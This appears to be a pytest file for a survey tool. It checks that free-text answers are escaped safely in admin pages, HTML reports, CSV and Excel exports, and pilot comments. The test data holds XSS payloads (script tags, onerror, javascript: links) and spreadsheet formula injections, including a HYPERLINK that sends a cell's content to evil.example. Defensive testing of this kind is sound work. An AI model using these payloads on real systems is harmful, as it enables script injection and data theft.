"""What somebody writes into a field of text is a text wherever it comes: pages, the close, the wave, report, workbook, table."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest

import survey
from survey.cli.main import main
from survey.fielding.web.close import close
from survey.fielding.web.study import Study, open_study
from survey.instrument.model import Instrument

from .browsing import FREE
from .conftest import WORD, Clock, begun, browser

SCRIPT = "</p></textarea><script>alert(1)</script><img src=x onerror=alert(2)>\"'&amp;"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
TEXTS = (
    SCRIPT,
    FORMULA,
    "+1-1",
    "-2+3",
    "@SUM(1)",
    "\tx=1",
    "[link](javascript:alert(3))",
    "{{ <b>7*7</b> }} `x` $x$ | --- |",
    "<a href='javascript:alert(4)'>x</a>",
    "~~~{=html}\n<script>alert(5)</script>\n~~~",
    '<svg/onload="alert(6)">',
    "&lt;script&gt;",
)
WAVE = """
id: drinks-2026
instrument: every-kind
kind: microdata
title: {kk: Сынақ, ru: Проба, en: Trial}
design: nonprobability
n: 12
source: {kk: Біз, ru: Мы, en: We}
disclosure: {minimum: 3, free_text: approved.csv, quotes: approved}
"""


@pytest.fixture
def wave(tmp_path: Path, every_kind: Instrument) -> Path:
    assert every_kind.path is not None
    (tmp_path / "instruments").mkdir()
    (tmp_path / "instruments" / "every-kind.yaml").write_bytes(Path(every_kind.path).read_bytes())
    folder = tmp_path / "data" / "drinks-2026"
    folder.mkdir(parents=True)
    (folder / "wave.yaml").write_text(WAVE, "utf-8")
    with (folder / "approved.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("item", "text"), *(("why", text.strip()) for text in TEXTS)])
    return folder


@pytest.fixture
def study(wave: Path) -> Iterator[Study]:
    """Twelve people, each with a hostile text in every field of text."""
    opened = open_study(wave)
    opened.change(open_link=True)
    opened.set_admin(WORD)
    for text in TEXTS:
        one = begun(opened, Clock(), limits=FREE)
        one.post({"trust": "no", "media_sources": ["tv", "elsewhere"], "media_sources.elsewhere.text": text, "region": "city"})
        one.post({"why": text, "region": "city"})
        one.post({"agree.tax_fair": "yes", "agree.law": "no", "age": "30", "office": "other", "office.other.text": text})
        assert one.path == "/review"
        unharmed(one.html)
        assert one.press("/submit").path == "/thanks"
    yield opened
    opened.close()


class Elements(HTMLParser):
    """The elements of a page: what a browser would run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


class Scripts(HTMLParser):
    """The words of scripts."""

    def __init__(self) -> None:
        super().__init__()
        self.inside, self.words = False, ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inside = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self.inside = False

    def handle_data(self, data: str) -> None:
        self.words += data if self.inside else ""


def unharmed(html: str) -> None:
    """Nothing that was written has become an element, an attribute that runs, or an address that leads out."""
    elements, scripts = Elements(), Scripts()
    elements.feed(html)
    scripts.feed(html)
    assert "alert(" not in scripts.words
    for tag, attributes in elements.found:
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        for name in ("href", "src", "action"):
            assert "alert" not in attributes.get(name, ""), (tag, attributes)
            assert "evil" not in attributes.get(name, ""), (tag, attributes)
        assert (tag, attributes.get("src")) != ("img", "x")


def test_the_page_of_the_researcher_shows_no_answer(study: Study) -> None:
    one = browser(study, Clock(), FREE).get("/admin").post({"word": WORD})
    assert "<table>" in one.html
    unharmed(one.html)
    assert not [text for text in TEXTS if text in one.html]
    assert "HYPERLINK" not in one.html


def test_the_table_of_answers_is_data_letter_by_letter(study: Study) -> None:
    """A raw file changes nothing that people wrote: whoever opens it in Excel imports the columns as text (docs/field.md)."""
    rows = list(csv.DictReader(io.StringIO(close(study).raw.read_bytes().decode("utf-8-sig"), newline="")))
    for column in ("why", "media_sources.elsewhere.text", "office.other.text"):
        assert sorted(row[column] for row in rows) == sorted(text.strip() for text in TEXTS)
    assert all(None not in row for row in rows), "no text has broken its row"


@pytest.mark.slow
def test_from_the_page_to_the_report_and_the_workbook(
    study: Study, wave: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("SURVEY_LANGUAGE", "en")
    monkeypatch.chdir(tmp_path)
    written = sorted(text.strip() for text in TEXTS)
    raw = close(study).raw
    assert main(["import", str(raw), "--wave", str(wave)]) == 0, capsys.readouterr()
    assert main(["clean", str(wave)]) in (0, 1), capsys.readouterr()
    assert sorted(survey.load_wave(wave).text["why"].dropna()) == written

    out = tmp_path / "report"
    assert main(["report", "build", str(wave), "--to", "html", "--out", str(out)]) == 0, capsys.readouterr()
    for path in sorted(out.glob("*.html")):
        html = path.read_text("utf-8")
        unharmed(html)
        assert "&lt;script&gt;alert(1)" in html, "the text itself is quoted"
        assert "HYPERLINK" in html
    assert len(list(out.glob("*.html"))) == 3

    assert main(["export", str(wave), "--to", "xlsx", "--with-texts", "--out", str(tmp_path / "x.xlsx")]) == 0
    cells = [cell for sheet in openpyxl.load_workbook(tmp_path / "x.xlsx") for line in sheet.iter_rows() for cell in line]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink is not None]
    formulas = [cell for cell in cells if cell.value == FORMULA]
    assert formulas
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in formulas)
    for sheet in sorted(wave.rglob("*.xlsx")):
        for line in (line for page in openpyxl.load_workbook(sheet) for line in page.iter_rows()):
            assert not [cell.coordinate for cell in line if cell.data_type == "f"], sheet

    assert main(["export", str(wave), "--to", "csv", "--with-texts", "--out", str(tmp_path / "x.csv")]) == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "x.csv").read_bytes().decode("utf-8-sig"), newline="")))
    assert sorted(row["why"] for row in rows) == written, "data for programs: as they stand (docs/export.md)"


def test_remarks_of_a_pilot_are_read_by_people(wave: Path) -> None:
    """They are not answers and no program reads them, so a formula is made a text."""
    pilot = open_study(wave, pilot=True)
    for text in TEXTS:
        one = begun(pilot, Clock(), limits=FREE)
        record = one.record
        pilot.answers.comment(record, "age", text)
        unharmed(one.post({"trust": "yes", "_comment.trust": text}).get("/p/first").html)
        pilot.answers.submit(record, date(2026, 5, 4))
    comments = close(pilot).comments
    assert comments is not None
    remarks = [row["comment"] for row in csv.DictReader(io.StringIO(comments.read_bytes().decode("utf-8-sig"), newline=""))]
    assert len(remarks) == 2 * len(TEXTS)
    assert not [remark for remark in remarks if remark[0] in "=+-@\t\r"]
    assert any(remark == f"'{FORMULA}" for remark in remarks)
    pilot.close()
